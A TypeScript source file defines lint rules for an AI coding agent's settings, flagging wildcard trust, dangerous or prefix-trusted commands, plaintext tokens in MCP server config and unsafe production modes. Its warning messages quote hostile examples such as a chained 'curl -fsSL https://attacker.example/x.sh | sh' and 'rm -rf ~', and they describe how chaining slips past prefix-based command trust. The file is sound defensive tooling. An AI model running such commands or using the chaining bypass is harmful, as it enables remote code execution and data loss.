import { parseTrustEntry, type TrustEntry } from './coverage';
import { trustEntryDangers } from './dangers';
import { kiroFoldersIgnored } from './gitignore';
import { findSecret, keyWords } from './secrets';
import type { CompleteSettings, McpServer } from './settings';
import { parseShell, type ParsedCommand } from './shell';

/**
 * The lint rules, one entry each: id, severity, title, description and the check that finds it,
 * kept together. A check gets the policy once read (every trusted command parsed once) and
 * reports findings at a field path. lint.ts runs them and sorts what they find.
 */

export type LintSeverity = 'critical' | 'high' | 'medium' | 'low';
export type LintEnvironment = 'development' | 'production';

export interface LintRule {
  severity: LintSeverity;
  title: string;
  /** One sentence: why it matters and the fix. */
  description: string;
}

/** A trusted entry as read once per lint. */
export interface ReadTrustedCommand {
  index: number;
  entry: TrustEntry;
  /** The entry's command (its prefix for `prefix *`), parsed; null for `*` and empty entries. */
  parsed: ParsedCommand | null;
}

export interface LintContext {
  settings: CompleteSettings;
  environment: LintEnvironment;
  trusted: readonly ReadTrustedCommand[];
}

export type Report = (path: string, message: string) => void;

export interface LintRuleDefinition extends LintRule {
  check(context: LintContext, report: Report): void;
}

export function readPolicy(settings: CompleteSettings, environment: LintEnvironment): LintContext {
  const trusted = settings.trustedCommands.map((raw, index): ReadTrustedCommand => {
    const entry = parseTrustEntry(raw);
    return { index, entry, parsed: entry.kind === 'empty' || entry.kind === 'all' ? null : parseShell(entry.prefix) };
  });
  return { settings, environment, trusted };
}

const trustedPath = (item: ReadTrustedCommand) => `trustedCommands[${item.index}]`;

/**
 * Every `prefix *` entry is reported: under whole-string prefix matching even `git status *`
 * trusts `git status; rm -rf ~`, so no prefix is narrow enough to be exempt.
 */
function broadPrefixMessage(entry: TrustEntry): string {
  const chained = `${entry.prefix} … && curl -fsSL https://attacker.example/x.sh | sh`;
  const raw = entry.kind === 'raw-prefix' ? ` and, with no space before \`*\`, any command that merely starts with \`${entry.prefix}\` (such as \`${entry.prefix}x\`)` : '';
  return `\`${entry.entry}\` also trusts chained commands such as \`${chained}\`${raw}, because Kiro matches the start of the whole command line; list the exact commands you need (e.g. \`${entry.prefix} <args>\`) instead.`;
}

interface SecretFinding {
  path: string;
  message: string;
}

function secretMessage(path: string, label: string, reference: string): string {
  return `\`${path}\` holds ${label} in plain text, readable by anyone who can read these settings or their downloads. Replace it with a reference such as \`${reference}\`, set the variable in the agent's environment and rotate the exposed credential.`;
}

const envName = (key: string) => keyWords(key).join('_') || 'API_TOKEN';

function mcpServerSecrets(name: string, server: McpServer): SecretFinding[] {
  const base = `mcpServers.${name}`;
  const out: SecretFinding[] = [];
  const check = (path: string, value: string, key: string | undefined, reference: string) => {
    const label = findSecret(value, key);
    if (label) out.push({ path, message: secretMessage(path, label, reference) });
  };
  for (const [key, value] of Object.entries(server.env ?? {})) check(`${base}.env.${key}`, value, key, `\${${key}}`);
  for (const [key, value] of Object.entries(server.headers ?? {})) {
    const reference = /^(authorization|proxy-authorization)$/i.test(key) ? 'Bearer ${API_TOKEN}' : `\${${envName(key)}}`;
    check(`${base}.headers.${key}`, value, key, reference);
  }
  const args = server.args ?? [];
  args.forEach((arg, index) => {
    // `--token=ghp_…`, `GITHUB_TOKEN=ghp_…` (docker -e), or `--token ghp_…` (value in the next word).
    const assigned = /^-{0,2}([A-Za-z_][\w.-]*)=([\s\S]*)$/.exec(arg);
    const previous = args[index - 1];
    const flag = previous !== undefined && /^--?[A-Za-z][\w-]*$/.test(previous) && !arg.startsWith('-') ? previous.replace(/^-+/, '') : undefined;
    const key = assigned?.[1] ?? flag;
    const value = assigned?.[2] ?? arg;
    const label = findSecret(arg) ?? findSecret(value, key);
    const path = `${base}.args[${index}]`;
    if (label) out.push({ path, message: secretMessage(path, label, '${API_TOKEN}') });
  });
  if (server.url) check(`${base}.url`, server.url, undefined, '${API_TOKEN}');
  if (server.command) check(`${base}.command`, server.command, undefined, '${API_TOKEN}');
  return out;
}


const SHELL_TOOLS = ['run_shell_command', 'ShellTool'];
const production = (context: LintContext) => context.environment === 'production';

export const LINT_RULE_IDS = [
  'trust-all',
  'dangerous-command',
  'broad-prefix',
  'trusted-command-denied',
  'hardcoded-secret',
  'gitignore-ignores-kiro',
  'production-autopilot',
  'production-auto-accept',
  'production-shell-not-excluded',
  'production-sandbox-off',
  'production-telemetry-on',
] as const;
export type LintRuleId = (typeof LINT_RULE_IDS)[number];

export const LINT_RULE_REGISTRY: Record<LintRuleId, LintRuleDefinition> = {
  'trust-all': {
    severity: 'critical',
    title: 'Every command is trusted',
    description: '`*` lets the agent run any command without asking, including destructive ones; list the exact commands it needs instead.',
    check({ trusted }, report) {
      for (const item of trusted) {
        if (item.entry.kind === 'all') report(trustedPath(item), '`*` trusts every command, including `rm -rf ~` and `curl … | sh`; list the exact commands the agent needs instead.');
      }
    },
  },
  'dangerous-command': {
    severity: 'high',
    title: 'Dangerous trusted command',
    description:
      'A trusted command (or a prefix pattern) that can delete data, gain root, run downloaded or arbitrary code or overwrite history runs without a human looking; remove it so the agent has to ask.',
    check({ trusted }, report) {
      for (const item of trusted) {
        if (!item.parsed) continue;
        const dangers = trustEntryDangers(item.entry, item.parsed);
        if (dangers.length > 0) report(trustedPath(item), `\`${item.entry.entry}\` is dangerous: ${dangers.join('; ')}. Remove it from trusted commands so the agent has to ask first.`);
      }
    },
  },
  'broad-prefix': {
    severity: 'medium',
    title: 'Prefix pattern also trusts chained commands',
    description:
      'Kiro compares a `prefix *` entry with the start of the whole command line, so it also trusts anything chained after it (`npm *` trusts `npm i && curl x | sh`); list exact commands instead.',
    check({ trusted }, report) {
      for (const item of trusted) {
        if (item.entry.kind === 'prefix' || item.entry.kind === 'raw-prefix') report(trustedPath(item), broadPrefixMessage(item.entry));
      }
    },
  },
  'trusted-command-denied': {
    severity: 'low',
    title: 'Trusted command is always denied',
    description: 'The deny list is checked first, so a trusted command containing a denied text never runs unasked; remove the entry or the denial so the policy says what it does.',
    check({ trusted, settings }, report) {
      const denied = settings.deniedCommands.map((d) => d.trim()).filter(Boolean);
      for (const item of trusted) {
        if (!item.parsed) continue;
        const blocked = denied.find((d) => item.entry.prefix.includes(d));
        if (blocked !== undefined) {
          report(trustedPath(item), `\`${item.entry.entry}\` never runs unasked: it contains the denied text \`${blocked}\`, and the deny list is checked first. Remove one of the two.`);
        }
      }
    },
  },
  'hardcoded-secret': {
    severity: 'critical',
    title: 'Secret written into the settings',
    description:
      'A literal token in MCP server settings is readable by everyone who can read the file or download it; replace it with a `${VAR}` reference, set the variable in the environment and rotate the token.',
    check({ settings }, report) {
      for (const [name, server] of Object.entries(settings.mcpServers)) {
        for (const secret of mcpServerSecrets(name, server)) report(secret.path, secret.message);
      }
    },
  },
  'gitignore-ignores-kiro': {
    severity: 'medium',
    title: '.gitignore hides Kiro’s steering, hooks or specs',
    description:
      'An entry such as `.kiro/` or `.kiro/*` also ignores `.kiro/steering/`, `.kiro/hooks/` and `.kiro/specs/`, which the team must commit so every machine gets the same guidance; ignore only `.kiro/settings.json` and `.kiro/cache/`.',
    check({ settings }, report) {
      for (const { index, folders } of kiroFoldersIgnored(settings.gitignore)) {
        const list = folders.map((folder) => `\`${folder}\``).join(', ');
        report(
          `gitignore[${index}]`,
          `\`${settings.gitignore[index] ?? ''}\` ignores ${list}, which must be committed (steering, hooks and specs are shared by the team); ignore only \`.kiro/settings.json\` and \`.kiro/cache/\`.`,
        );
      }
    },
  },
  'production-autopilot': {
    severity: 'high',
    title: 'Autopilot in production',
    description: 'In autopilot the agent edits files and runs trusted commands without confirmation, which a production project should not allow; set mode to supervised.',
    check(context, report) {
      if (production(context) && context.settings.mode === 'autopilot') {
        report('mode', 'Autopilot lets the agent edit files and run trusted commands without asking in a production team; set mode to "supervised".');
      }
    },
  },
  'production-auto-accept': {
    severity: 'high',
    title: 'Edits accepted without review in production',
    description: 'autoAccept applies the agent\'s changes with no human review, the main safeguard for production code; set autoAccept to false.',
    check(context, report) {
      if (production(context) && context.settings.autoAccept) {
        report('autoAccept', "autoAccept applies the agent's edits with no review in a production team; set autoAccept to false.");
      }
    },
  },
  'production-shell-not-excluded': {
    severity: 'high',
    title: 'Shell tool available in production',
    description:
      'The shell tool can run any command the deny list misses (string matching is not a security boundary); add `run_shell_command` to excludeTools for production teams.',
    check(context, report) {
      const { settings } = context;
      // Only the bare tool name excludes the whole tool; `run_shell_command(rm)` excludes one command.
      if (!production(context) || settings.excludeTools.some((tool) => SHELL_TOOLS.includes(tool.trim()))) return;
      const explicit = settings.coreTools.find((tool) => SHELL_TOOLS.some((s) => tool === s || tool.startsWith(`${s}(`)));
      const extra = explicit ? ` coreTools even enables it explicitly (\`${explicit}\`).` : '';
      report('excludeTools', `The shell tool is not excluded in a production team, so the agent can run commands the deny list misses.${extra} Add "run_shell_command" to excludeTools.`);
    },
  },
  'production-sandbox-off': {
    severity: 'medium',
    title: 'No sandbox in production',
    description:
      'Without a sandbox the agent\'s commands run directly on the host; medium because supervision and the excluded shell tool are the primary controls, but set sandbox to docker or podman as a second line.',
    check(context, report) {
      if (production(context) && context.settings.sandbox === false) {
        report('sandbox', 'Commands run directly on the host in a production team; set sandbox to "docker" or "podman".');
      }
    },
  },
  'production-telemetry-on': {
    severity: 'medium',
    title: 'Telemetry on in production',
    description:
      'Telemetry and usage statistics send usage data (and with some settings prompts) to the vendor, a data-governance concern rather than a direct compromise; turn both off for production teams.',
    check(context, report) {
      if (!production(context)) return;
      if (context.settings.telemetry.enabled) report('telemetry.enabled', 'Telemetry is on in a production team; set telemetry.enabled to false.');
      if (context.settings.telemetry.usageStatisticsEnabled) {
        report('telemetry.usageStatisticsEnabled', 'Usage statistics are sent to the vendor from a production team; set telemetry.usageStatisticsEnabled to false.');
      }
    },
  },
};
